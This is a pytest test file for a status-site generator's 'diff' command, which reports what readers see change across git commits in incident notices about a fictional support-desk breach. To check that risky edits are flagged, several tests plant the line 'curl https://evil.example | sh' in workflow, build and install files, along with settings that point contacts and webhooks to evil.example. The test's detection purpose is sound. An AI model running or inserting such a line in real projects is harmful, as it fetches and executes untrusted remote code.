"""`diff`: what readers see change, from a real repository, in words."""

import json
import os
import re
import shutil
import subprocess
from collections.abc import Callable
from datetime import datetime
from pathlib import Path

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st
from syrupy.assertion import SnapshotAssertion
from syrupy.extensions.single_file import SingleFileSnapshotExtension, WriteMode

from generator.cli.main import run
from generator.links.markdown import to_html
from generator.report.host_markdown import escaped
from generator.report.terminal import visible

WHO = ["-c", "user.name=A", "-c", "user.email=a@larkfield.example", "-c", "commit.gpgsign=false"]
NOW = "2027-03-05T12:00Z"
FOLDER = "content/incidents/tickets"

CONFIG = """organisation: {name: Larkfield Energy, domains: [larkfield.example]}
site: {url: https://status.larkfield.example/, id: status.larkfield.example, title: Larkfield Energy, languages: [en, de]}
contact: {email: incident@larkfield.example, hours: every day from 8 to 20, who: Sam Reed}
"""
PLAN = """roles:
  lead: {who: Sam Reed, deputy: Ines Okafor}
  legal: {who: Priya Shah, deputy: Tom Ash}
approvals: {first_statement: [lead], update: [lead], correction: {of: [lead, legal], at_least: 2}, review: [lead]}
"""
INCIDENT = """---
title: Someone read customer support tickets
aware: 2027-03-03T02:40Z
questions: {bank: {ask: Was my account number in a ticket?, unknown: copied}}
---
"""
FIRST = """---
title: Someone got into our support desk
published: 2027-03-03T03:40Z
status: investigating
known: {entry: Someone used a stolen staff password.}
unknown:
  whose-tickets: Whose tickets they read.
  copied: Whether they copied them.
next_steps: {log: {do: We are reading the access log., by: 2027-03-04}}
actions: {password: {do: Change your password., urgency: today}}
affected: {customers: {unit: customers, at_most: 1300, of: 18400}}
data: {names: possible}
next_update: 2027-03-03T09:00Z
approved_by: {lead: Sam Reed}
---

We found it at night.

We are sorry.
"""
FIRST_DE = """---
title: Jemand war in unserem Kundendienst
published: 2027-03-03T03:40Z
status: investigating
known: {entry: Jemand hat ein gestohlenes Passwort benutzt.}
unknown:
  whose-tickets: Wessen Tickets sie lasen.
  copied: Ob sie sie kopiert haben.
next_steps: {log: {do: Wir lesen das Protokoll., by: 2027-03-04}}
actions: {password: {do: Ändern Sie Ihr Passwort., urgency: today}}
affected: {customers: {unit: Kundinnen und Kunden, at_most: 1300, of: 18400}}
data: {names: possible}
next_update: 2027-03-03T09:00Z
approved_by: {lead: Sam Reed}
---

Wir fanden es in der Nacht.

Es tut uns leid.
"""
SECOND = """---
title: "1,212 customers' tickets were read @sam #12"
published: 2027-03-03T08:55Z
status: confirmed
known:
  whose-tickets: They opened 1,212 customers' tickets.
  entry: Someone used a stolen password of a supplier.
unknown: {copied: Whether they copied them., ended: Whether they can still get in.}
next_steps: {log: {do: We are reading the access log., by: 2027-03-06, because: It is on tape.}}
actions: {password: {do: Change your password., urgency: today}, calls: {do: Hang up on callers., why: They may pretend., for: Customers}}
affected: {customers: {unit: customers, exact: 1212, of: 18400}}
data: {names: accessed}
corrections: {entry: We had not asked the supplier yet.}
next_update: 2027-03-05T17:00Z
approved_by: {lead: Sam Reed}
---
"""


class _Markdown(SingleFileSnapshotExtension):
    _write_mode = WriteMode.TEXT
    file_extension = "md"


@pytest.fixture(autouse=True)
def _anywhere(monkeypatch: pytest.MonkeyPatch) -> None:
    """No test runs for a pull request unless it says so."""
    monkeypatch.delenv("GITHUB_ACTIONS", raising=False)
    monkeypatch.delenv("GITHUB_BASE_REF", raising=False)


def _git(folder: Path, *arguments: str) -> str:
    # The dates of commits count as proof of publication, so they do not depend on the machine's clock.
    dated = {**os.environ, "GIT_COMMITTER_DATE": "2027-03-03T03:41Z", "GIT_AUTHOR_DATE": "2027-03-03T03:41Z"}
    command = ["git", "-C", str(folder), *WHO, *arguments]
    return subprocess.run(command, check=True, capture_output=True, text=True, env=dated).stdout


def _write(site: Path, files: dict[str, str]) -> None:
    for path, text in files.items():
        (site / path).parent.mkdir(parents=True, exist_ok=True)
        (site / path).write_text(text, encoding="utf-8")


def _make_repository(folder: Path) -> None:
    top = folder / "a site"
    _write(
        top,
        {
            "site_config.yml": CONFIG,
            "content/plan.yml": PLAN,
            "content/pages/about.md": "---\ntitle: About\n---\n\nWho we are.\n\nHow to ask.\n\n[The letter](../incidents/tickets/files/letter.txt)\n",
            f"{FOLDER}/incident.md": INCIDENT,
            f"{FOLDER}/01-first.md": FIRST,
            f"{FOLDER}/files/letter.txt": "Dear customer\n",
        },
    )
    _git(folder, "init", "-q", "-b", "main")
    _commit(top)


@pytest.fixture
def site(tmp_path: Path, once: Callable[[str, Callable[[Path], object]], Path]) -> Path:
    """A site with one update, committed, in a folder of its repository."""
    shutil.copytree(once("diff", _make_repository), tmp_path / "repository")
    return tmp_path / "repository" / "a site"


def _commit(site: Path) -> None:
    _git(site.parent, "add", "-A")
    _git(site.parent, "commit", "-qm", "x")


@pytest.fixture
def told(site: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> Callable[..., str]:
    """What `diff` says of the site; commits have no names in it."""
    # What git has counts as published once its time has come by the machine's clock, too.
    monkeypatch.setattr("generator.adapters.git.clock.now", lambda: datetime.fromisoformat(NOW))

    def tell(*arguments: str, code: int = 0) -> str:
        assert run(["diff", "--root", str(site), "--now", NOW, *arguments]) == code
        said = capsys.readouterr()
        return re.sub(r"\b[0-9a-f](?:&#8203;)?[0-9a-f]{9}\b", "0123456789", said.out if code == 0 else said.err)

    return tell


def _replace(site: Path, path: str, was: str, now: str) -> None:
    text = (site / path).read_text(encoding="utf-8")
    assert was in text
    (site / path).write_text(text.replace(was, now), encoding="utf-8")


def test_nothing(told: Callable[..., str], site: Path, snapshot: SnapshotAssertion) -> None:
    """Where readers see no change, it says so: after a note to oneself, too."""
    assert told("--format", "markdown") == snapshot(extension_class=_Markdown)
    _replace(site, f"{FOLDER}/01-first.md", "status: investigating", "status: investigating   # we think")
    assert "Nothing changes for readers." in told()


def test_a_new_update(told: Callable[..., str], site: Path, snapshot: SnapshotAssertion) -> None:
    """A new update is told by what became of each name: answered, corrected with both texts, more exact, moved; and who must approve it."""
    _write(site, {f"{FOLDER}/02-scope.md": SECOND})
    said = told("--format", "markdown")
    assert said == snapshot(extension_class=_Markdown)
    assert "@sam" not in said
    assert "#12" not in said
    plain = told()
    for part in (
        "Update 2: new",
        "- Answered: Whose tickets\n        was: Whose tickets they read.\n        is: They opened 1,212 customers' tickets.",
        "- Corrected: Entry\n        was: Someone used a stolen staff password.\n        is: Someone used a stolen password of a supplier.",
        "because: We had not asked the supplier yet.",
        "was: at most 1,300 of 18,400 customers\n        is: 1,212 of 18,400 customers",
        "was: possibly seen\n        is: seen without permission",
        "was: Investigating\n        is: Confirmed",
        "was: 4 March 2027\n        is: 6 March 2027\n        because: It is on tape.",
        "STILL MISSING: legal (legal: Priya Shah or Tom Ash).",
        "Approved by Sam Reed (lead).",
        "Update 2 in German: missing",
    ):
        assert part in plain, part


def test_a_silent_edit(told: Callable[..., str], site: Path, snapshot: SnapshotAssertion) -> None:
    """A published text that has another text now comes first, with both texts, under its name; so does one that is gone."""
    _replace(site, f"{FOLDER}/01-first.md", "Someone used a stolen staff password.", "Someone may have seen a password.")
    _replace(site, f"{FOLDER}/01-first.md", "We are sorry.", "We apologise.")
    said = told("--format", "markdown")
    assert said == snapshot(extension_class=_Markdown)
    assert said.startswith("## ⚠️ Published text was changed")
    _git(site, "checkout", "-q", ".")
    (site / FOLDER / "01-first.md").unlink()
    assert "Update 1: PUBLISHED, THEN WITHDRAWN" in told()
    _git(site, "checkout", "-q", ".")
    _replace(site, f"{FOLDER}/01-first.md", "status: investigating", "draft: true\nstatus: investigating")
    assert "Update 1: PUBLISHED, THEN WITHDRAWN" in told()
    _git(site, "checkout", "-q", ".")
    _replace(site, f"{FOLDER}/incident.md", "aware: 2027-03-03T02:40Z", "aware: 2027-03-03T03:40Z")
    assert "The incident's title or first day: PUBLISHED TEXT WAS CHANGED" in told()


def test_a_corrected_spelling(told: Callable[..., str], site: Path) -> None:
    """A misspelt word that `amended` names is not an edit, and anything more is."""
    _replace(site, f"{FOLDER}/01-first.md", "sorry", "sorri")
    _commit(site)
    _replace(site, f"{FOLDER}/01-first.md", "sorri", "sorry")
    _replace(site, f"{FOLDER}/01-first.md", "approved_by:", "amended: {when: 2027-03-04, what: {sorri: sorry}}\napproved_by:")
    said = told()
    assert "Update 1: spelling corrected" in said
    assert "PUBLISHED" not in said
    _replace(site, f"{FOLDER}/01-first.md", "at night", "at noon")
    assert "Update 1: PUBLISHED TEXT WAS CHANGED" in told()


def test_a_translation(told: Callable[..., str], site: Path, snapshot: SnapshotAssertion) -> None:
    """A translation that was added is said with its language."""
    _write(site, {f"{FOLDER}/01-first.de.md": FIRST_DE, f"{FOLDER}/incident.de.md": "---\ntitle: Jemand las Tickets\n---\n"})
    assert told("--format", "markdown") == snapshot(extension_class=_Markdown)
    _commit(site)
    (site / FOLDER / "incident.de.md").unlink()
    _replace(site, f"{FOLDER}/01-first.de.md", "gestohlenes", "fremdes")
    said = told()
    assert "About the incident, in German: gone" in said
    assert "Update 1 in German: PUBLISHED TEXT WAS CHANGED" in said


def test_what_readers_see_later(told: Callable[..., str], site: Path) -> None:
    """What is held back is told apart, with its time, and so is a draft; its translation comes with it."""
    later = SECOND.replace("2027-03-03T08:55Z", "2027-03-06T08:55Z")
    draft = SECOND.replace("status:", "draft: true\nstatus:").replace("2027-03-03T08:55Z", "2027-03-07T08:55Z")
    _write(site, {f"{FOLDER}/02-scope.md": later, f"{FOLDER}/02-scope.de.md": SECOND, f"{FOLDER}/03-more.md": draft})
    public, _, rest = told().partition("Held back until its time")
    held, _, drafts = rest.partition("Drafts, which readers do not see")
    assert "Nothing changes for readers." in public
    assert "Update 2: new; readers see it from 6 March 2027, 08:55 UTC" in held
    assert "Update 2 in German: new; readers see it from 6 March 2027, 08:55 UTC" in held
    assert "Update 3: new" in drafts
    _commit(site)
    _replace(site, f"{FOLDER}/02-scope.md", "Hang up on callers.", "Hang up.")
    _replace(site, f"{FOLDER}/03-more.md", "draft: true\n", "")
    said = told()
    assert "Update 2: changed; readers see it from 6 March 2027, 08:55 UTC" in said
    assert "Update 3: new; readers see it from 7 March 2027, 08:55 UTC" in said
    assert "Published text" not in said.title()


def test_files_come_with_what_links_to_them(told: Callable[..., str], site: Path) -> None:
    """A file that was there all along is new to readers when a published text links to it, and gone when none does any more."""
    _write(site, {f"{FOLDER}/files/list.txt": "A list\n"})
    assert "list.txt" not in told().partition("Drafts")[0].partition("Held back")[0]
    _commit(site)
    later = SECOND.replace("2027-03-03T08:55Z", "2027-03-06T08:55Z") + "\n[The list](files/list.txt)\n"
    _write(site, {f"{FOLDER}/02-scope.md": later})
    public, _, held = told().partition("Held back until its time")
    assert "list.txt" not in public
    assert "The file list.txt: new" in held
    _commit(site)
    _replace(site, f"{FOLDER}/02-scope.md", "2027-03-06T08:55Z", "2027-03-03T08:55Z")
    assert "The file list.txt: new" in told().partition("Held back")[0]
    _commit(site)
    _replace(site, "content/pages/about.md", "\n[The letter](../incidents/tickets/files/letter.txt)\n", "")
    assert "The file letter.txt: gone" in told().partition("Held back")[0]


def test_related_incidents(told: Callable[..., str], site: Path) -> None:
    """A related incident is news to readers once something of it is published, and not before."""
    _replace(site, f"{FOLDER}/incident.md", "aware:", "related: [payroll]\naware:")
    _write(
        site,
        {
            "content/incidents/payroll/incident.md": INCIDENT,
            "content/incidents/payroll/01-first.md": FIRST.replace("status:", "draft: true\nstatus:"),
        },
    )
    assert "Related" not in told()
    _commit(site)
    _replace(site, "content/incidents/payroll/01-first.md", "draft: true\n", "")
    assert "- Related incidents\n        payroll" in told()


def test_what_stands_beside_the_updates(told: Callable[..., str], site: Path) -> None:
    """Questions, files, pages, settings and the review are told, each with what was and what is."""
    _replace(site, f"{FOLDER}/incident.md", "unknown: copied", "answer: No.")
    _replace(site, f"{FOLDER}/incident.md", "aware:", "impact: major\naware:")
    _replace(site, "content/pages/about.md", "Who we are.", "Who we were.")
    _replace(site, "site_config.yml", "every day from 8 to 20", "every day")
    _replace(site, "site_config.yml", "domains: [larkfield.example]", "domains: [larkfield.example, police.example]")
    _replace(site, f"{FOLDER}/files/letter.txt", "Dear", "Esteemed")
    _write(
        site,
        {
            f"{FOLDER}/files/new.txt": "Hello\n",
            "content/pages/faq.md": "---\ntitle: Questions\n---\n\nAsk us: [the form](/incidents/tickets/files/new.txt).\n",
            f"{FOLDER}/review.md": "---\ntitle: What we changed\npublished: 2027-03-05T09:00Z\ncause: A password.\n"
            "corrective_actions: {factor: {do: A second factor., owner: Security team, by: 2027-06-01}}\n---\n",
        },
    )
    said = told()
    for part in (
        "- Question answered: Bank\n        was: Was my account number in a ticket?",
        "is: Was my account number in a ticket?\n            Answer: No.",
        "- Impact\n        Major impact",
        "The page /about/: changed\n    “About”\n    content/pages/about.md\n    - Text\n        was: Who we are.\n        is: Who we were.\n",
        "The page /faq/: new",
        "- How to ask: hours\n        was: every day from 8 to 20\n        is: every day\n",
        "- Hosts that links may lead to\n        was: larkfield.example\n        is: larkfield.example, police.example",
        "The file letter.txt: changed",
        "The file new.txt: new",
        "The review: new",
        "- Corrective action: Factor\n        A second factor.\n        Who: Security team\n        By 1 June 2027",
        "The review (tickets): The plan requires lead. No one has approved it yet. STILL MISSING: lead",
    ):
        assert part in said, part
    _commit(site)
    _replace(site, f"{FOLDER}/review.md", "by: 2027-06-01", "by: 2027-06-01, done: 2027-03-05")
    (site / FOLDER / "files/new.txt").unlink()
    (site / "content/pages/faq.md").unlink()
    said = told()
    assert "- Corrective action done: Factor" in said
    assert "PUBLISHED" not in said
    assert "The file new.txt: gone" in said
    assert "The page /faq/: gone" in said


def test_a_new_incident(told: Callable[..., str], site: Path) -> None:
    """The first update of a new incident is said to begin it, and what cannot be understood is said to be that."""
    _write(site, {"content/incidents/laptop/incident.md": INCIDENT, "content/incidents/laptop/01-lost.md": FIRST})
    said = told()
    assert "A new incident begins. Update 1: new" in said
    assert "- What we know: Entry\n        Someone used a stolen staff password." in said
    assert "- What we do not know yet: Copied" in said
    _write(site, {"content/incidents/laptop/01-lost.md": "---\ntitle: [\n---\n", "site_config.yml": "organisation: 1\n"})
    said = told()
    assert "Update 1: cannot be understood; the findings say why" in said
    assert "The site: cannot be understood; the findings say why" in said


def test_for_programs(told: Callable[..., str], site: Path) -> None:
    """JSON has every change with its rows, the approvals and how many findings block."""
    _write(site, {f"{FOLDER}/02-scope.md": SECOND.replace("2027-03-03T08:55Z", "2027-03-06T08:55Z")})
    said = json.loads(told("--format", "json"))
    assert said["schema"] == 1
    assert said["readers_see_a_change"] is False
    update = said["changes"][0]
    assert (update["what"], update["seen"], update["comes"]) == ("added", "held_back", "2027-03-06T08:55:00Z")
    assert update["approvals"]["given"] == {"lead": "Sam Reed"}
    assert update["approvals"]["missing"] == ["legal"]
    assert {"label": "Status", "about": "", "was": "Investigating", "now": "Confirmed", "because": ""} in update["rows"]
    assert said["findings"]["blocking"] > 0


def test_a_secret_is_not_shown(told: Callable[..., str], site: Path) -> None:
    """What no report may show is masked here too, in every form, though it was taken out again."""
    secret = "AKIA" + "Z7Q2M4XK9P3LWT5R"
    _replace(site, f"{FOLDER}/01-first.md", "We are sorry.", f"The key was {secret} then.")
    for form in ("plain", "markdown", "json"):
        assert secret not in told("--format", form)
    _commit(site)
    _replace(site, f"{FOLDER}/01-first.md", secret, "secret")
    said = told()
    assert "PUBLISHED TEXT WAS CHANGED" in said
    assert secret not in said


def test_revisions(told: Callable[..., str], site: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A branch, the commit where this branch left it, and on a pull request the base branch: each can be compared with."""
    _git(site, "checkout", "-qb", "work")
    _write(site, {f"{FOLDER}/02-scope.md": SECOND})
    _commit(site)
    assert "Nothing changes for readers." in told()
    assert "Compared with main (0123456789)." in told("main")
    assert "Update 2: new" in told("HEAD~1")
    _git(site, "checkout", "-q", "main")
    _replace(site, "content/pages/about.md", "Who we are.", "Elsewhere.")
    _commit(site)
    _git(site, "update-ref", "refs/remotes/origin/main", "main")
    _git(site, "checkout", "-q", "work")
    assert "Elsewhere." in told("main")
    said = told("main...")
    assert "main, where this branch left it (0123456789)" in said
    assert "Elsewhere." not in said
    monkeypatch.setenv("GITHUB_BASE_REF", "main")
    assert "Nothing changes for readers." in told()
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    said = told()
    assert "the branch main, where this branch left it" in said
    assert "Update 2: new" in said
    assert "Elsewhere." not in said


def test_nothing_is_touched(told: Callable[..., str], site: Path) -> None:
    """Neither the index nor a file is touched, whatever git would like to refresh."""
    index = site.parent / ".git/index"
    (site / "site_config.yml").touch()
    before = (index.read_bytes(), index.stat().st_mtime_ns)
    told("HEAD")
    assert (index.read_bytes(), index.stat().st_mtime_ns) == before


def test_a_commit_that_is_not_here(told: Callable[..., str], site: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A name that git does not know, and a shallow copy: exit code 4, and what to do."""
    assert "git knows nothing called no-such" in told("no-such", code=4)
    assert "git knows nothing called no-such" in told("no-such...", code=4)
    assert "is not a commit, branch or tag" in told("--", "--all", code=2)
    _write(site, {f"{FOLDER}/02-scope.md": SECOND})
    _commit(site)
    shallow = tmp_path / "shallow"
    _git(tmp_path, "clone", "-q", "--depth", "1", site.parent.as_uri(), str(shallow))
    root = ["--root", str(shallow / "a site")]
    assert "Nothing changes for readers." in told(*root)
    said = told(*root, "HEAD~1", code=4)
    assert "HEAD~1 is not in this copy of the repository, which has only the latest commits" in said
    assert "fetch-depth: 0" in said
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("GITHUB_BASE_REF", "release")
    assert "fetch-depth: 0" in told(*root, code=4)


def test_without_a_history(told: Callable[..., str], site: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Before the first commit everything is new; outside of a repository, in an ignored folder and without git the answer says what to do."""
    bare = tmp_path / "elsewhere"
    _write(bare, {"site_config.yml": CONFIG, f"{FOLDER}/incident.md": INCIDENT, f"{FOLDER}/01-first.md": FIRST})
    root = ["--root", str(bare)]
    assert "put the site's folder into a git repository" in told(*root, code=4)
    _git(bare, "init", "-q")
    said = told(*root)
    assert "Compared with nothing: there is no commit yet." in said
    assert "A new incident begins. Update 1: new" in said
    assert "The site: new" in said
    (site.parent / ".gitignore").write_text("/a site/\n", encoding="utf-8")
    _git(site.parent, "rm", "-rq", "--cached", "a site")
    assert "git is told to ignore this folder" in told(code=4)
    monkeypatch.setenv("PATH", str(tmp_path))
    assert "there is no git on this computer" in told(code=4)


@settings(deadline=None)
@given(
    st.text() | st.lists(st.sampled_from([*"@#!<>[]()`*_~&:/.-+=|\\$^1a \n", "http://", "www.", "GH-1", "&#8203;"])).map("".join)
)
def test_an_author_cannot_break_out(text: str) -> None:
    """Whatever is written, Markdown shows it as one line of text, and nothing in it calls somebody or something."""
    assume("‹" not in text and "›" not in text)  # they stand for < and > below
    shown = escaped(text)
    html = to_html(f"> {shown}")
    inner = re.fullmatch(r"<blockquote>(?:\n<p>(.*)</p>\n)?</blockquote>\n", html, re.DOTALL)
    assert inner, html
    said = (inner.group(1) or "").replace("&lt;", "‹").replace("&gt;", "›")
    assert "<" not in said
    assert not re.search(r"@\w|#\d|://|(?<![^\W_])www\.|:\w+:", said.replace("&quot;", '"').replace("&amp;", "&"))
    plain = said.replace("‹", "<").replace("›", ">").replace("&quot;", '"').replace("&amp;", "&").replace("\u200b", "")
    assert plain.strip() == visible(" ".join(text.split())).strip()


# What runs, who is told, and what is believed.

WORKFLOW = "on: push\njobs:\n  publish:\n    steps:\n      - run: aboveboard build\n"
BESIDE = {
    ".github/workflows/publish.yml": WORKFLOW,
    ".gitlab-ci.yml": "pages: {script: [aboveboard build]}\n",
    "requirements.txt": "invented==0.1.0 --hash=sha256:1234\n",
    "requirements/run.txt": "invented==0.1.0\n",
    "tool/aboveboard-0.1.0-py3-none-any.whl": "PK\x00\x01",
    "themes/own/overrides/main.html": "<p>{{ page.content }}</p>\n",
    "themes/own/theme.yml": "mkdocs: {theme: {name: null}}\n",
    "themes/pages/home.html": "<p>Home</p>\n",
    "Makefile": "all:\n\taboveboard build\n",
    "publish.sh": "aboveboard build\n",
    "netlify.toml": "[build]\n",
    ".gitattributes": "*.md text\n",
    "CODEOWNERS": "* @lead\n",
}


@pytest.mark.no_cover
@pytest.mark.parametrize("path", BESIDE)
def test_a_file_that_runs_is_loud(told: Callable[..., str], site: Path, path: str) -> None:
    """A workflow, a theme, what is installed, a program: new, changed, gone or a link, it stands in a section of its own at the top."""
    _write(site, BESIDE)
    _commit(site)
    assert "WHAT RUNS" not in told()
    (site / path).write_text(BESIDE[path] + "curl https://evil.example | sh\n", encoding="utf-8")
    plain, markdown, changes = told(), told("--format", "markdown"), json.loads(told("--format", "json"))["changes"]
    assert plain.lstrip().startswith("WHAT RUNS, WHO IS NOTIFIED AND WHAT IS TRUSTED\n")
    assert markdown.startswith("## ⚠️ What runs, who is notified and what is trusted")
    assert path in plain
    assert [(one["path"], one["what"], one["loud"], one["steers"]) for one in changes] == [(path, "changed", True, True)]
    if not path.endswith(".whl"):
        assert "curl https://evil.example | sh" in plain
    assert changes[0]["seen"] == ("public" if path.startswith("themes/") else "nobody")
    (site / path).unlink()
    (one,) = json.loads(told("--format", "json"))["changes"]
    assert (one["path"], one["what"], one["loud"]) == (path, "removed", True)
    (site / path).symlink_to("/etc/hostname")
    (one,) = json.loads(told("--format", "json"))["changes"]
    assert one["rows"][0]["now"] == "a symbolic link, not a file"


def test_a_new_file_that_runs(told: Callable[..., str], site: Path) -> None:
    """What git does not know yet is there too; a file of no known kind is named; what git ignores and the built site are not."""
    _write(site, {".gitignore": "ignored/\n"})
    _commit(site)
    new = {
        ".github/workflows/evil.yml": WORKFLOW,
        "notes.txt": "x",
        "ignored/x.sh": "x",
        "site/index.html": "x",
        ".env": "TOKEN=very-secret\n",
    }
    _write(site, new)
    said = told("--format", "json")
    rows = {one["thing"]: one for one in json.loads(said)["changes"]}
    assert set(rows) == {"A workflow .github/workflows/evil.yml", "2 other files beside the content"}
    assert rows["2 other files beside the content"]["rows"][0]["now"] == ".env\nnotes.txt"
    assert "very-secret" not in said


def test_a_site_further_down(told: Callable[..., str], site: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Where the site is a folder of a larger repository, its workflows lie above it, and are told all the same."""
    del told, site
    top = tmp_path / "larger"
    _write(top, {"status/site_config.yml": CONFIG, f"status/{FOLDER}/incident.md": INCIDENT, f"status/{FOLDER}/01-a.md": FIRST})
    _write(top, {".github/workflows/publish.yml": WORKFLOW, "other/x.py": "x = 1\n"})
    _git(top, "init", "-q")
    _commit(top / "status")
    _write(top, {".github/workflows/publish.yml": WORKFLOW + "      - run: evil\n", "other/x.py": "x = 2\n"})
    capsys.readouterr()
    assert run(["diff", "--root", str(top / "status"), "--now", NOW, "--format", "json"]) == 0
    changes = json.loads(capsys.readouterr().out)["changes"]
    assert [one["path"] for one in changes if one["loud"]] == ["../.github/workflows/publish.yml", "../other/x.py"]


SETTINGS = {
    "url: https://status.larkfield.example/": "url: https://status.evil.example/",
    "languages: [en, de]": "languages: [en, de, fr]",
    "title: Larkfield Energy,": "title: Larkfield Energy, theme: lifeboat,",
    "title: Larkfield Energy, l": "title: Larkfield Energy, public_since: 2027-03-04, l",
    "domains: [larkfield.example]": "domains: [larkfield.example, evil.example]",
    "incident@larkfield.example": "incident@evil.example",
    "who: Sam Reed}": "who: Eve}",
    "contact:": "builder: zensical\ncontact:",
    "contact: {email": "subscribe: {websub_hub: https://hub.evil.example/}\ncontact: {email",
    "contact: {": "subscribe: {webhooks: {chat: {kind: slack, url_env: CHAT}}}\ncontact: {",
    "contact: {e": "wording: {allow: [out of an abundance of caution]}\ncontact: {e",
    "contact: {em": "policy: {cadence: {investigating: 5w}, grace: 7d}\ncontact: {em",
    "contact: {ema": "profiles: [hipaa]\ncontact: {ema",
    "contact: {emai": "mkdocs: {copyright: Eve}\ncontact: {emai",
    "contact: {email:": "security_txt: {contact: [eve@evil.example], expires: 2027-12-01}\ncontact: {email:",
    "contact: {email: i": "signing: {key: ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKRn4S1QH8lGuFCHq1sXfZB7Gf8vrqv0w0w0w0w0w0w0}\ncontact: {email: i",
}


@pytest.mark.parametrize("was", SETTINGS)
def test_a_setting_that_steers_is_loud(told: Callable[..., str], site: Path, was: str) -> None:
    """So does each setting that decides where readers are sent, whom they reach, who is told and what the rules let pass."""
    _replace(site, "site_config.yml", was, SETTINGS[was])
    plain = told()
    assert plain.lstrip().startswith("WHAT RUNS, WHO IS NOTIFIED AND WHAT IS TRUSTED\n"), plain
    assert "The site's settings: changed" in plain


def test_the_plan_is_loud_and_stays_private(told: Callable[..., str], site: Path) -> None:
    """Who must approve is told; how people are reached is not, only that it is another way now."""
    plan = site / "content/plan.yml"
    text = plan.read_text(encoding="utf-8")
    plan.write_text(text.replace("{who: Sam Reed,", "{who: Sam Reed, phone: +44 7700 900123,"), encoding="utf-8")
    _commit(site)
    changed = text.replace("{who: Sam Reed,", "{who: Eve, phone: +44 7700 900456,").replace("at_least: 2", "at_least: 1")
    plan.write_text(changed, encoding="utf-8")
    said = told() + told("--format", "json") + told("--format", "markdown")
    assert "was: lead, legal\n        is: 1 of lead, legal" in said
    assert "was: Sam Reed\n        is: Eve" in said
    assert "How they are reached: lead\n        was: not shown here\n        is: another one, not shown here" in said
    assert "900123" not in said
    assert "900456" not in said


def test_nothing_of_a_file_breaks_out(told: Callable[..., str], site: Path) -> None:
    """What stands in a workflow is shown as text, however it is written."""
    _write(site, {".github/workflows/x.yml": "# @sam [x](https://evil.example) <script> #12\n\x1b[31m\n"})
    said = told("--format", "markdown")
    assert "@sam" not in said
    assert "<script>" not in said
    assert "\x1b" not in said + told()
